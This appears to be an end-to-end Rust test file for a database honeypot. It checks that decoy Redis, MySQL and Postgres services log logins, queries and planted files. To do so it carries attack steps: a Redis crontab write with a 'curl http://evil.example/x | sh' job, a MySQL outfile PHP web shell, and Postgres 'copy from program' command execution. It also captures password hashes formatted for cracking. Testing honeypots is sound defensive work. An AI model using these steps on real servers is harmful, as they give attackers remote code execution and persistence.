//! Databases, by the clients that come with them and by nmap.

use std::process::{Command, Output};

use e2e::{Decky, Decnet, Options, clients, missing, until};
use serde_json::Value;

fn up(client: &str) -> Option<Decnet> {
    let absent = [client, "ssh", "sshpass"].iter().any(|tool| missing(tool));
    (!absent).then(|| Decnet::start(Options { deckies: Some(1), ..Options::default() }))
}

fn text(output: &Output) -> String {
    let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
    text.push_str(&String::from_utf8_lossy(&output.stderr));
    text
}

/// What `kind` tells, newest last, once `is_it` is among it.
fn fields(decnet: &mut Decnet, kind: &str, is_it: impl Fn(&Value) -> bool) -> Value {
    until(kind, || {
        let page = decnet.api(&format!("/logs?limit=1000&search=event:{kind}"));
        let told = page["data"].as_array().unwrap().iter().map(|log| log["fields"].clone());
        let mut told = told.map(|text| serde_json::from_str(text.as_str().unwrap()).unwrap());
        told.find(|fields| is_it(fields))
    })
}

/// The credential of `user` on `service`.
fn credential(decnet: &mut Decnet, service: &str, user: &str) -> Value {
    until("the credential", || {
        let page = decnet.api(&format!("/credentials?service={service}"));
        page["data"].as_array().unwrap().iter().find(|row| row["principal"] == user).cloned()
    })
}

/// The bytes of a captured file.
fn artifact(decnet: &mut Decnet, service: &str, captured: &Value) -> Vec<u8> {
    let name = captured["stored_as"].as_str().unwrap();
    let decky = decnet.decky().name();
    let answer = decnet.get(&format!("/artifacts/{decky}/{name}?service={service}"));
    assert_eq!(answer.status, 200);
    answer.body
}

/// The lines of `file` on the decky, as its administrator sees them.
fn lines_of(decky: &Decky, file: &str) -> String {
    text(&clients::run(decky, &format!("cat {file}")))
}

/// `redis-cli` with the password that the machine's own configuration tells, if there is one.
fn redis(decky: &Decky, words: &[&str]) -> String {
    let (address, port) = decky.endpoint("redis");
    let configuration = lines_of(decky, "/etc/redis/redis.conf");
    let password = configuration.lines().find_map(|line| line.strip_prefix("requirepass "));
    let mut command = Command::new("redis-cli");
    command.args(["-h", &address, "-p", &port.to_string()]);
    if let Some(password) = password {
        command.args(["-a", password, "--no-auth-warning"]);
    }
    text(&command.args(words).output().expect("redis-cli runs"))
}

#[test]
fn keys_set_in_redis_outlive_sessions_and_restarts() {
    let Some(mut decnet) = up("redis-cli") else { return };
    let decky = decnet.decky();
    assert_eq!(redis(&decky, &["set", "note", "pay \"me\""]), "OK\n");
    assert_eq!(redis(&decky, &["get", "note"]), "pay \"me\"\n");
    let told = fields(&mut decnet, "command", |told| told["cmd"] == "SET");
    assert_eq!(told["args"], serde_json::json!(["note", "pay \"me\""]));
    assert!(decnet.stop());
    decnet.start_again();
    assert_eq!(redis(&decnet.decky(), &["get", "note"]), "pay \"me\"\n");
    assert!(redis(&decky, &["info", "server"]).contains("redis_mode:standalone"));
}

#[test]
fn a_password_tried_on_redis_is_a_credential() {
    let Some(mut decnet) = up("redis-cli") else { return };
    let (address, port) = decnet.decky().endpoint("redis");
    let tried = Command::new("redis-cli")
        .args(["-h", &address, "-p", &port.to_string(), "--user", "admin", "-a", "S3cret!", "ping"])
        .output()
        .expect("redis-cli runs");
    assert!(text(&tried).contains("WRONGPASS"), "{}", text(&tried));
    let found = credential(&mut decnet, "redis", "admin");
    assert_eq!(found["secret_printable"], "S3cret!");
    assert_eq!(found["secret_kind"], "plaintext");
    assert_eq!(found["outcome"], "failure");
}

#[test]
fn a_snapshot_written_into_crontabs_is_there_and_is_an_artifact() {
    let Some(mut decnet) = up("redis-cli") else { return };
    let decky = decnet.decky();
    let job = "\n\n* * * * * curl http://evil.example/x | sh\n\n";
    for words in [
        &["set", "x", job][..],
        &["config", "set", "dir", "/var/spool/cron/crontabs"],
        &["config", "set", "dbfilename", "root"],
        &["save"],
    ] {
        assert_eq!(redis(&decky, words), "OK\n", "{words:?}");
    }
    assert!(lines_of(&decky, "/var/spool/cron/crontabs/root").contains(job.trim()));
    let captured = fields(&mut decnet, "file_captured", |file| file["artifact"] == "rdb_write");
    assert_eq!(captured["orig_path"], "/var/spool/cron/crontabs/root");
    let bytes = artifact(&mut decnet, "redis", &captured);
    assert!(bytes.starts_with(b"REDIS00"), "{}", bytes.escape_ascii());
}

fn mysql(decky: &Decky, user: &str, password: &str, sql: &str) -> String {
    let (address, port) = decky.endpoint("mysql");
    let output = Command::new("mysql")
        .args(["--no-defaults", "--skip-ssl", "--batch", "--skip-column-names"])
        .args(["-h", &address, "-P", &port.to_string(), "-u", user])
        .args([&format!("--password={password}"), "-e", sql])
        .output();
    text(&output.expect("mysql runs"))
}

/// `sql` as root of the server, who has the password of the machine's root or, on some, none.
fn as_root(decky: &Decky, sql: &str) -> String {
    let (user, password) = decky.login();
    assert_eq!(user, "root");
    let denied = mysql(decky, "root", &password, "do 1").contains("Access denied");
    mysql(decky, "root", if denied { "" } else { &password }, sql)
}

#[test]
fn tables_made_in_mysql_outlive_sessions_and_restarts() {
    let Some(mut decnet) = up("mysql") else { return };
    let decky = decnet.decky();
    let made = "create database loot; create table loot.t (id int, name varchar(20)); \
                insert into loot.t values (1, 'pay'), (2, 'me')";
    assert_eq!(as_root(&decky, made), "");
    let read = "select * from loot.t order by id desc";
    assert_eq!(as_root(&decky, read), "2\tme\n1\tpay\n");
    let told = fields(&mut decnet, "query", |told| told["sql"] == read);
    assert_eq!((&told["rows"], &told["username"]), (&2.into(), &"root".into()));
    assert!(decnet.stop());
    decnet.start_again();
    let decky = decnet.decky();
    assert_eq!(as_root(&decky, read), "2\tme\n1\tpay\n");
    let version = as_root(&decky, "select version()");
    let program = text(&clients::run(&decky, "ps -eo args | grep -o '/usr/sbin/m[a-z]*d$'"));
    assert_eq!(program.contains("mariadbd"), version.contains("MariaDB"), "{program}{version}");
}

#[test]
fn a_password_tried_on_mysql_can_be_cracked() {
    let Some(mut decnet) = up("mysql") else { return };
    let refused = mysql(&decnet.decky(), "backup", "letmein", "select 1");
    assert!(refused.contains("Access denied for user 'backup'@'127."), "{refused}");
    assert!(refused.contains("(using password: YES)"), "{refused}");
    let found = credential(&mut decnet, "mysql", "backup");
    assert_eq!(found["secret_kind"], "mysql_native_password");
    assert_eq!(found["fields"]["crack_mode"], "11200");
    let line = found["fields"]["crack"].as_str().unwrap();
    let response = found["secret_printable"].as_str().unwrap();
    assert!(line.starts_with("$mysqlna$") && line.ends_with(&format!("*{response}")), "{line}");
    assert_eq!(found["fields"]["client_attributes"]["program_name"], "mysql");
}

#[test]
fn a_file_written_by_mysql_is_there_and_is_an_artifact() {
    let Some(mut decnet) = up("mysql") else { return };
    let decky = decnet.decky();
    // MySQL 8 writes into one folder only.
    let told = as_root(&decky, "select coalesce(@@secure_file_priv, '')");
    let folder = if told.trim().is_empty() { "/tmp/" } else { told.trim() };
    let path = format!("{folder}s.php");
    let shell = "<?php system($_GET[0]);?>";
    let written = format!("select '{shell}' into outfile '{path}'");
    assert_eq!(as_root(&decky, &written), "");
    assert_eq!(lines_of(&decky, &path), format!("{shell}\n"));
    let captured = fields(&mut decnet, "file_captured", |file| file["artifact"] == "outfile");
    assert_eq!(captured["orig_path"], path);
    assert_eq!(artifact(&mut decnet, "mysql", &captured), format!("{shell}\n").as_bytes());
}

fn psql(decky: &Decky, user: &str, password: &str, words: &[&str]) -> String {
    let (address, port) = decky.endpoint("postgres");
    let mut command = Command::new("psql");
    command.env("PGPASSWORD", password).args(["-X", "-A", "-t", "-q", "-w"]);
    command.args(["-h", &address, "-p", &port.to_string(), "-U", user, "-d", "postgres"]);
    text(&command.args(words).output().expect("psql runs"))
}

/// `psql` as the server's administrator, who has the password of the machine's root.
fn as_postgres(decky: &Decky, words: &[&str]) -> String {
    psql(decky, "postgres", &decky.login().1, words)
}

#[test]
fn tables_made_in_postgres_outlive_sessions_and_restarts() {
    let Some(mut decnet) = up("psql") else { return };
    let decky = decnet.decky();
    let made = "create table t (id int primary key, name text); \
                insert into t values (1, 'pay'), (2, 'me')";
    assert_eq!(as_postgres(&decky, &["-c", made]), "");
    let read = "select * from t order by id desc";
    assert_eq!(as_postgres(&decky, &["-c", read]), "2|me\n1|pay\n");
    let told = fields(&mut decnet, "query", |told| told["sql"] == read);
    assert_eq!(told["username"], "postgres");
    assert!(decnet.stop());
    decnet.start_again();
    let decky = decnet.decky();
    assert_eq!(as_postgres(&decky, &["-c", read]), "2|me\n1|pay\n");
    let described = as_postgres(&decky, &["-c", "\\d t"]);
    assert!(described.contains("id|integer||not null|"), "{described}");
    let listed = as_postgres(&decky, &["-c", "\\l"]);
    assert!(listed.contains("template1|postgres|UTF8|"), "{listed}");
}

#[test]
fn a_password_tried_on_postgres_can_be_tested() {
    let Some(mut decnet) = up("psql") else { return };
    let refused = psql(&decnet.decky(), "backup", "letmein", &["-c", "select 1"]);
    assert!(
        refused.contains("FATAL:  password authentication failed for user \"backup\""),
        "{refused}"
    );
    let found = credential(&mut decnet, "postgres", "backup");
    assert_eq!(found["secret_kind"], "scram_sha256");
    // No cracker takes the exchange as it is: what is needed to test a password is kept.
    let told = &found["fields"];
    assert_eq!(told["scram_iterations"], 4096);
    let message = told["scram_auth_message"].as_str().unwrap();
    let salt = told["scram_salt_b64"].as_str().unwrap();
    assert!(message.starts_with("n=,r=") && message.contains(&format!(",s={salt},i=4096,c=")));
}

#[test]
fn a_program_copied_from_runs_on_the_machine_and_is_told() {
    let Some(mut decnet) = up("psql") else { return };
    let decky = decnet.decky();
    let attack = "create table out (line text); \
                  copy out from program 'id -un; echo stay > /tmp/.x'; table out";
    assert_eq!(as_postgres(&decky, &["-c", attack]), "postgres\n");
    assert_eq!(lines_of(&decky, "/tmp/.x"), "stay\n");
    let told = fields(&mut decnet, "query", |told| told["lure"] == "copy_program");
    assert!(told["sql"].as_str().unwrap().contains("from program"), "{told}");
    fields(&mut decnet, "command", |told| {
        told["command"].as_str().is_some_and(|line| line.contains("echo stay > /tmp/.x"))
    });
    let captured = fields(&mut decnet, "file_captured", |file| file["orig_path"] == "/tmp/.x");
    assert_eq!(artifact(&mut decnet, "postgres", &captured), b"stay\n");
}

#[test]
fn nmap_knows_what_it_meets() {
    let Some(decnet) = up("nmap") else { return };
    let decky = decnet.decky();
    let scan = |service: &str| {
        let (address, port) = decky.endpoint(service);
        let output = Command::new("nmap")
            .args(["-Pn", "-n", "-sT", "-sV", "-p", &port.to_string(), &address])
            .output();
        let seen = text(&output.expect("nmap runs"));
        let open = seen.lines().find(|line| line.starts_with(&format!("{port}/tcp")));
        (open.unwrap_or_default().trim_end().to_owned(), seen)
    };
    let (redis, seen) = scan("redis");
    // One that asks for a password tells no version.
    let closed = redis.ends_with("Redis key-value store");
    assert!(closed || redis.contains("Redis key-value store 7.") || redis.contains("store 6."));
    assert!(!seen.contains("unrecognized"), "{seen}");
    let (mysql, seen) = scan("mysql");
    let names = ["MariaDB ", "MySQL 5.5.5-10.11.", "MySQL 8.0."];
    assert!(names.iter().any(|name| mysql.contains(name)), "{seen}");
    assert!(!seen.contains("unrecognized"), "{seen}");
    // Of releases after its own, as ours are, nmap knows the product and asks to be told the rest.
    let (postgres, seen) = scan("postgres");
    assert!(postgres.contains("PostgreSQL DB 9.6.0 or later"), "{seen}");
}

#[test]
fn psql_insists_on_tls_and_binds_its_proof_to_it() {
    let Some(mut decnet) = up("psql") else { return };
    let decky = decnet.decky();
    let (address, port) = decky.endpoint("postgres");
    let password = decky.login().1;
    let ask = |password: &str| {
        let more = "sslmode=require channel_binding=require dbname=postgres user=postgres";
        let target = format!("host={address} port={port} {more}");
        let sql = "select version, cipher, bits from pg_stat_ssl where ssl";
        let mut command = Command::new("psql");
        command.env("PGPASSWORD", password).args(["-X", "-A", "-t", "-w", "-c", sql, &target]);
        text(&command.output().expect("psql runs"))
    };
    assert_eq!(ask(&password), "TLSv1.3|TLS_AES_256_GCM_SHA384|256\n");
    assert!(ask("letmein").contains("password authentication failed"));
    let agreed = fields(&mut decnet, "tls_session", |told| told["version"] == "TLSv1.3");
    assert_eq!(agreed["cipher"], "TLS_AES_256_GCM_SHA384");
    assert_eq!(credential(&mut decnet, "postgres", "postgres")["secret_kind"], "scram_sha256");
}

#[test]
fn a_client_of_mysql_8_gives_its_password_away_inside_tls() {
    if missing("mysql") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("fleet.ini");
    std::fs::write(&file, "[db]\nservices=mysql\ndistro=ubuntu22\n").unwrap();
    let more = vec!["--config".to_owned(), file.to_str().unwrap().to_owned()];
    let mut decnet = Decnet::start(Options { more, ..Options::default() });
    let (address, port) = decnet.decky().endpoint("mysql");
    let ask = |user: &str, password: &str, sql: &str| {
        let mut command = Command::new("mysql");
        command.args(["--no-defaults", "--ssl", "--batch", "--skip-column-names", "-h", &address]);
        command.args(["-P", &port.to_string(), "-u", user, &format!("--password={password}")]);
        text(&command.args(["-e", sql]).output().expect("mysql runs"))
    };
    let refused = ask("backup", "letmein", "select 1");
    assert!(refused.contains("Access denied for user 'backup'"), "{refused}");
    let found = credential(&mut decnet, "mysql", "backup");
    assert_eq!(found["secret_kind"], "plaintext");
    assert_eq!(found["secret_printable"], "letmein");
    let password = decnet.decky().login().1;
    let cipher = "show status like 'Ssl_cipher'";
    let denied = ask("root", &password, cipher).contains("Access denied");
    let told = ask("root", if denied { "" } else { &password }, cipher);
    assert_eq!(told, "Ssl_cipher\tTLS_AES_256_GCM_SHA384\n");
}
